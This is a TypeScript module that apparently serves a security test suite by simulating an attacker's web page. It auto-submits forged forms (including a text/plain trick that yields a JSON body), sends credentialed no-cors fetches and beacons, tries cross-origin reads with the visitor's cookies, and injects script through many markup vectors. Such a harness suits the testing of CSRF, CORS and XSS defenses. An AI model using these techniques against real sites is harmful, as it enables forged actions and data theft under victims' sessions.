// What an attacker's page does in the browser. Each of these functions runs inside that page, so it cannot use
// anything from its surrounding scope.

/** A request that an attacker wants the victim's browser to send. */
export interface Wanted {
  url: string
  fields: Record<string, string>
}

/** The encoding and the targets of a form. */
export interface FormShape {
  enctype: string
  targets: string[]
}

/** Submits forms automatically: one for each request and each window. */
export function submitForms({ wanted, enctype, targets }: FormShape & { wanted: Wanted[] }): void {
  for (const { url, fields } of wanted) {
    // As text/plain, the name, an equals sign and the value make a line that can be parsed as JSON.
    const json = JSON.stringify({ ...fields, x: '' })
    const inputs = enctype === 'text/plain' ? { [json.slice(0, -2)]: '"}' } : fields
    for (const target of targets) {
      const frame = Object.assign(document.createElement('iframe'), { name: `${enctype} ${url}` })
      const into = target === 'iframe' ? frame.name : target
      const shape = { method: 'post', action: url, enctype, target: into }
      const form = Object.assign(document.createElement('form'), shape)
      for (const [name, value] of Object.entries(inputs)) {
        form.append(Object.assign(document.createElement('input'), { type: 'hidden', name, value }))
      }
      document.body.append(frame, form)
      form.submit()
    }
  }
}

/** How often `sendBlindly` sends each request. */
export const BLIND_WAYS = 8

/** Sends requests that need no preflight. The page cannot read the responses. */
export async function sendBlindly(wanted: Wanted[]): Promise<void> {
  for (const { url, fields } of wanted) {
    const json = JSON.stringify(fields)
    const blind = { method: 'POST', mode: 'no-cors', credentials: 'include' } as const
    const multipart = new FormData()
    for (const [name, value] of Object.entries(fields)) multipart.append(name, value)
    await Promise.allSettled([
      fetch(url, { ...blind }),
      fetch(url, { ...blind, body: json }),
      fetch(url, { ...blind, body: new URLSearchParams(fields) }),
      fetch(url, { ...blind, body: multipart }),
      fetch(url, { ...blind, body: new Blob([json]), keepalive: true }),
      fetch(url, { ...blind, body: json, mode: 'cors' }),
    ])
    navigator.sendBeacon(url, json)
    navigator.sendBeacon(url, new URLSearchParams(fields))
  }
}

/** How many preflights `askFirst` causes per request. */
export const ASKING_WAYS = 4

/** Sends requests that need a preflight. Returns how many of them went through. */
export async function askFirst(wanted: Wanted[]): Promise<number> {
  const type = { 'content-type': 'application/json' }
  const tried = wanted.flatMap(({ url, fields }) => {
    const send = (method: string, headers: Record<string, string>) =>
      fetch(url, { method, headers, credentials: 'include', body: JSON.stringify(fields) })
    navigator.sendBeacon(url, new Blob([JSON.stringify(fields)], { type: 'application/json' }))
    return [
      send('POST', type),
      send('POST', { ...type, 'x-token-transport': 'cookies' }),
      // A simple method alone would need no preflight.
      send('PATCH', type),
    ]
  })
  return (await Promise.allSettled(tried)).filter(({ status }) => status === 'fulfilled').length
}

/** How many GET requests `embed` causes per URL. */
export const EMBEDDING_WAYS = 7

/** Makes the browser GET URLs: as subresources, in windows, by a link. */
export function embed(urls: string[]): void {
  for (const url of urls) {
    const parts = [
      Object.assign(document.createElement('img'), { src: url }),
      Object.assign(document.createElement('script'), { src: url }),
      Object.assign(document.createElement('link'), { rel: 'stylesheet', href: url }),
      Object.assign(document.createElement('iframe'), { src: url }),
    ]
    document.body.append(...parts)
    fetch(url, { mode: 'no-cors', credentials: 'include' }).catch(String)
    window.open(url)
    const link = Object.assign(document.createElement('a'), { href: url, target: '_blank' })
    document.body.append(link)
    link.click()
  }
}

/** Tries to read the responses of URLs with the visitor's cookies. Returns what it could read. */
export async function readAll(urls: string[]): Promise<string[]> {
  const read = async (url: string, mode: RequestMode) => {
    const response = await fetch(url, { mode, credentials: 'include' })
    return response.type === 'opaque' ? '' : `${response.status} ${await response.text()}`
  }
  const tries = urls.flatMap((url) => [read(url, 'cors'), read(url, 'no-cors')])
  const seen = (await Promise.allSettled(tries)).map((it) => (it.status === 'fulfilled' ? it.value : ''))
  return seen.filter((text) => text !== '')
}

/** Injects script into a page in every way that markup can. What runs leaves a mark. */
export function inject(foreign: string): void {
  const mark = (name: string) => `void(document.documentElement.dataset.${name} = 'ran')`
  const markup = document.createElement('div')
  markup.innerHTML = `<img src="/none" onerror="${mark('onerror')}"><button onclick="${mark('onclick')}">x</button>
    <a href="javascript:${mark('link')}">x</a><iframe srcdoc="<script>parent.document.documentElement.dataset.srcdoc = 'ran'</script>"></iframe>
    <svg onload="${mark('onload')}"></svg><base href="${foreign}/">
    <object data="${foreign}/object"></object><iframe src="${foreign}/frame"></iframe>
    <img src="${foreign}/image"><link rel="stylesheet" href="${foreign}/style">`
  const inline = Object.assign(document.createElement('script'), { text: mark('inline') })
  const module = Object.assign(document.createElement('script'), { type: 'module', text: mark('module') })
  const loaded = Object.assign(document.createElement('script'), { src: `${foreign}/script.js` })
  const data = Object.assign(document.createElement('script'), {
    src: `data:text/javascript,${mark('data')}`,
  })
  document.body.append(markup, inline, module, loaded, data)
  for (const element of markup.querySelectorAll('button, a')) (element as HTMLElement).click()
  fetch(`${foreign}/fetch`).catch(String)
  navigator.sendBeacon(`${foreign}/beacon`)
}
